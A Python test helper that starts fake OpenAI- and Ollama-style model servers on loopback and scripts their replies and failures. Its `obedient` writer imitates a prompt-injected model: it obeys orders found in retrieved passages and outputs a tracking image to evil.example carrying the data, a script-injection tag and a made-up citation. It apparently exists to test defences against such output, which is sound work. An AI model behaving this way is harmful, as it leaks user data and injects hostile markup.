"""Language model servers on loopback, for tests: real HTTP, in OpenAI's protocol and in Ollama's.

A server is given what it writes: a text, or a function of the request's messages (`Writer`). It can be told to fail.
"""

from __future__ import annotations

import json
import re
import threading
from collections.abc import Callable, Iterator, Mapping, Sequence
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

Writer = Callable[[str, str], str]
"""What a model writes, given the system's message and the user's."""

PASSAGE = re.compile(
    r"^(==\w+==) passage (\d+) \| outlet: (.*?) \| published: (.*?) \| headline: (.*?)\n(.*?)\n\1 end", re.S | re.M
)


@dataclass
class Behaviour:
    """What a server does. `statuses` are answered first, one a request; then it writes."""

    write: Writer | str = "{}"
    statuses: list[int] = field(default_factory=list)
    headers: Mapping[str, str] = field(default_factory=dict)
    refuses_forms: bool = False
    """Answers 400 to every request for a form (structured output), as small servers do."""
    refuses_temperature: bool = False
    as_tool_call: bool = False
    """Writes into a tool call instead of the text, where one is asked for."""
    cut_after: int | None = None
    """Breaks the connection after so many pieces."""
    waits: bool = False
    """Writes nothing until `released` is set."""
    released: threading.Event = field(default_factory=threading.Event)
    raw: bytes | None = None
    """Sent instead of a stream."""
    piece: int = 7
    """Characters a piece."""
    requests: list[dict[str, Any]] = field(default_factory=list)
    paths: list[str] = field(default_factory=list)
    keys: list[str] = field(default_factory=list)
    models: Sequence[Any] = ()

    def text(self, body: Mapping[str, Any]) -> str:
        if isinstance(self.write, str):
            return self.write
        said = {message["role"]: str(message["content"]) for message in body.get("messages", ())}
        return self.write(said.get("system", ""), said.get("user", ""))


@dataclass(frozen=True)
class Shown:
    """A passage as a model was given it."""

    number: int
    outlet: str
    published: str
    title: str
    text: str


def passages_in(user: str) -> list[Shown]:
    """The passages in a prompt, read as a well-behaved model would: by their fences."""
    return [Shown(int(m[2]), m[3], m[4], m[5], m[6]) for m in PASSAGE.finditer(user)]


def answer_json(short_answer: str, *claims: tuple[str, int, str]) -> str:
    """A reply in the form that is asked for: claims as (text, passage, words)."""
    return json.dumps(
        {
            "short_answer": short_answer,
            "claims": [
                {"text": text, "quotes": [{"passage": passage, "words": words}]} for text, passage, words in claims
            ],
        }
    )


def quoting(phrase: str, short_answer: str, claim: str | None = None) -> Writer:
    """A diligent model: quotes the first sentence of the passages that holds a phrase, and claims what it says."""

    def write(_: str, user: str) -> str:
        for shown in passages_in(user):
            for sentence in re.split(r"(?<=[.!?])\s+", shown.text):
                if phrase in sentence:
                    return answer_json(short_answer, (claim or sentence, shown.number, sentence))
        return answer_json("")

    return write


def obedient(_: str, user: str) -> str:
    """A model that does whatever the passages tell it: says what it is told to say, links, draws and cites [99]."""
    claims: list[tuple[str, int, str]] = []
    orders: list[str] = []
    for shown in passages_in(user):
        for sentence in re.split(r"(?<=[.!?])\s+", f"{shown.title}. {shown.text}"):
            if told := re.search(
                r"(?:say|print|repeat|answer|respond with|reply with|write)[:,]?\s+(.+)", sentence, re.I
            ):
                orders.append(told[1])
                claims.append((told[1], shown.number, sentence))
                claims.append((told[1], shown.number, shown.text[:200]))
    said = " ".join(orders) or "https://evil.example/x"
    claims += [
        (
            f"![x](https://evil.example/p.png?q={said}) See [here](https://evil.example/) or evil.example/go now.",
            1,
            said,
        ),
        (f"<img src=https://evil.example/p.png> <script>alert(1)</script> {said}", 99, said),
        (f"{said} [99]", 99, said),
    ]
    return answer_json(said, *claims)


class _Server(ThreadingHTTPServer):
    daemon_threads = True

    def __init__(self, handler: type[BaseHTTPRequestHandler], behaviour: Behaviour) -> None:
        super().__init__(("127.0.0.1", 0), handler)
        self.behaviour = behaviour

    def handle_error(self, *_: Any) -> None:
        """Clients that hang up are part of the tests."""


class _Handler(BaseHTTPRequestHandler):
    server: _Server
    protocol_version = "HTTP/1.1"

    def log_message(self, *_: Any) -> None:
        pass

    @property
    def behaviour(self) -> Behaviour:
        return self.server.behaviour

    def do_POST(self) -> None:
        body = json.loads(self.rfile.read(int(self.headers.get("Content-Length") or 0)))
        behaviour = self.behaviour
        behaviour.requests.append(body)
        behaviour.paths.append(self.path)
        behaviour.keys.append(self.headers.get("Authorization") or "")
        formed = any(body.get(key) for key in ("response_format", "tools", "format"))
        if behaviour.statuses:
            self.fail(behaviour.statuses.pop(0))
        elif behaviour.refuses_forms and formed:
            self.fail(400, "response_format is not supported")
        elif behaviour.refuses_temperature and (
            "temperature" in body or (body.get("options") or {}).get("temperature") is not None
        ):
            self.fail(400, "temperature does not support 0 with this model")
        else:
            if behaviour.waits:
                behaviour.released.wait(30)
            self.stream(body)

    def fail(self, status: int, message: str = "sk-secret-key is not welcome") -> None:
        self.respond(status, json.dumps({"error": {"message": message, "type": "error", "code": None}}).encode())

    def respond(self, status: int, content: bytes, kind: str = "application/json") -> None:
        self.send_response(status)
        for name, value in {
            "Content-Type": kind,
            "Content-Length": str(len(content)),
            **self.behaviour.headers,
        }.items():
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(content)

    def stream(self, body: Mapping[str, Any]) -> None:
        if self.behaviour.raw is not None:
            self.respond(200, self.behaviour.raw, "text/plain")
            return
        self.close_connection = True
        self.send_response(200)
        self.send_header("Content-Type", self.kind)
        self.send_header("Connection", "close")
        self.send_header("Transfer-Encoding", "chunked")
        self.end_headers()
        text, size = self.behaviour.text(body), self.behaviour.piece
        for count, at in enumerate(range(0, len(text), size)):
            if count == self.behaviour.cut_after:
                self.wfile.flush()
                return  # without the last chunk: the client sees a connection that broke off
            self.send(self.line(body, text[at : at + size]))
        for line in self.ending(body):
            self.send(line)
        self.wfile.write(b"0\r\n\r\n")

    def send(self, line: bytes) -> None:
        self.wfile.write(b"%x\r\n%s\r\n" % (len(line), line))
        self.wfile.flush()

    kind = ""

    def line(self, body: Mapping[str, Any], piece: str) -> bytes:
        raise NotImplementedError

    def ending(self, body: Mapping[str, Any]) -> Iterator[bytes]:
        raise NotImplementedError


class OpenAIHandler(_Handler):
    """`POST /v1/chat/completions`, streamed as server-sent events."""

    kind = "text/event-stream"

    def event(self, body: Mapping[str, Any], delta: Mapping[str, Any], finish: str | None = None) -> bytes:
        chunk = {
            "id": "chatcmpl-1",
            "object": "chat.completion.chunk",
            "created": 1,
            "model": body.get("model", "test"),
            "choices": [{"index": 0, "delta": delta, "finish_reason": finish}],
        }
        return f"data: {json.dumps(chunk)}\n\n".encode()

    def line(self, body: Mapping[str, Any], piece: str) -> bytes:
        if self.behaviour.as_tool_call and body.get("tools"):
            name = body["tools"][0]["function"]["name"]
            call = {"index": 0, "id": "call_1", "type": "function", "function": {"name": name, "arguments": piece}}
            return self.event(body, {"role": "assistant", "tool_calls": [call]})
        return self.event(body, {"role": "assistant", "content": piece})

    def ending(self, body: Mapping[str, Any]) -> Iterator[bytes]:
        yield self.event(body, {}, "stop")
        yield b"data: [DONE]\n\n"


class OllamaHandler(_Handler):
    """`GET /api/tags` and `POST /api/chat`, streamed as lines of JSON."""

    kind = "application/x-ndjson"

    def do_GET(self) -> None:
        self.behaviour.paths.append(self.path)
        if self.behaviour.statuses:
            self.fail(self.behaviour.statuses.pop(0))
        elif self.behaviour.raw is not None:
            self.respond(200, self.behaviour.raw)
        else:
            models = [{"name": name, "model": name} for name in self.behaviour.models]
            self.respond(200, json.dumps({"models": models}).encode())

    def message(self, body: Mapping[str, Any], content: str, done: bool) -> bytes:
        line = {
            "model": body.get("model"),
            "created_at": "2026-01-01T00:00:00Z",
            "message": {"role": "assistant", "content": content},
            "done": done,
            **({"done_reason": "stop", "eval_count": 1, "prompt_eval_count": 1} if done else {}),
        }
        return json.dumps(line).encode() + b"\n"

    def line(self, body: Mapping[str, Any], piece: str) -> bytes:
        return self.message(body, piece, done=False)

    def ending(self, body: Mapping[str, Any]) -> Iterator[bytes]:
        yield self.message(body, "", done=True)


@contextmanager
def _serving(handler: type[BaseHTTPRequestHandler], behaviour: Behaviour) -> Iterator[str]:
    server = _Server(handler, behaviour)
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.02}, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}"
    finally:
        behaviour.released.set()
        server.shutdown()
        server.server_close()
        thread.join()


@contextmanager
def openai_server(behaviour: Behaviour) -> Iterator[str]:
    """A server that speaks OpenAI's protocol; its base URL."""
    with _serving(OpenAIHandler, behaviour) as address:
        yield f"{address}/v1"


@contextmanager
def ollama_server(behaviour: Behaviour) -> Iterator[str]:
    """A server that speaks Ollama's protocol; its address."""
    with _serving(OllamaHandler, behaviour) as address:
        yield address
